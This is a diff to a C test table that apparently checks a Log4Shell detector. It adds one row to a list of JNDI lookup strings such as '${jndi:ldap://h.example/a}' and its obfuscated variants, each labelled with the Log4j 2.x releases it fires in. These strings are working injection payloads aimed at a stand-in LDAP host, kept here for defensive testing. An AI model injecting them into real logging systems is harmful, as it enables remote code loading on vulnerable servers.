@@ -111,6 +111,9 @@ static void only_some_releases(void **state)
         ROW("$${jndi:ldap://h.example/a} ${x}", "exploit", .fires = "2.6-2.14.1 message"),
         ROW("${x} $${jndi:ldap://h.example/a}", "exploit", .fires = "2.6-2.14.1 message"),
         ROW("${::-$}{jndi:ldap://h.example/a} ${", "exploit", .fires = "2.6-2.14.1 message"),
+        /* "$$" throws in the first releases' messages; a context value lies in a variable already */
+        ROW("$${x} ${jndi:ldap://h.example/a}", "exploit", .indicators = H,
+            .fires = "2.0-beta9-2.14.1 context +layout; 2.0-rc2-2.14.1 message; 2.0-rc2-2.14.1 single"),
         /* java: throws where it is known, event:Message too */
         ROW("${java:nosuch}${jndi:ldap://h.example/a}", "exploit", .fires = FIRES("2.0-beta9-2.0.2")),
         ROW("${jndi:ldap://h.example/a}${java:nosuch}", "exploit", .fires = FIRES_ALL, .indicators = H),
